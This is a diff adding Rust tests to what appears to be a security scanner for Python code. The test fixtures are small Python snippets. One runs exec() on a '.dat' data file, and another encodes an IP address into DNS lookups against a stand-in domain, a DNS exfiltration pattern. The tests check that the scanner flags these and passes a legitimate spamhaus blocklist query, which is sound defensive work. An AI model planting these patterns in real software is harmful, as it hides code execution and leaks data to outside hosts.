@@ -202,3 +202,28 @@ fn what_callers_put_into_a_queue_comes_out_of_it() {
     assert_eq!(event(&outcome(Language::Python, code), Act::Send).when, When::Called);
     has_not(Language::Python, &code.replace("from_mnemonic", "from_lines"), "flow-key-sent");
 }
+
+#[test]
+fn a_helper_that_reads_for_many_reads_code_for_somebody() {
+    let code = |executed: &str| {
+        format!(
+            "import os\ndef read(name):\n    with open(name, 'r') as f:\n        return f.read()\nabout = read('ABOUT.dat')\n\
+             exec(read(os.path.join('tool', '{executed}')))\n"
+        )
+    };
+    has(Language::Python, &code("names.dat"), "flow-executes-data-file");
+    has_not(Language::Python, &code("names.py"), "flow-executes-data-file");
+}
+
+#[test]
+fn lists_of_addresses_are_asked_by_names() {
+    let code = |domain: &str| {
+        format!(
+            "import socket\ndef check(ip):\n    name = '.'.join(reversed(ip.split('.')))\n    try:\n        \
+             socket.getaddrinfo(f'{{name}}.{domain}', 0)\n    except OSError:\n        pass\n"
+        )
+    };
+    has(Language::Python, &code("told.vendor.invalid"), "flow-dns-exfiltration");
+    has_not(Language::Python, &code("zen.spamhaus.org"), "flow-dns-exfiltration");
+    has(Language::Python, &code("notspamhaus.org.vendor.invalid"), "flow-dns-exfiltration");
+}
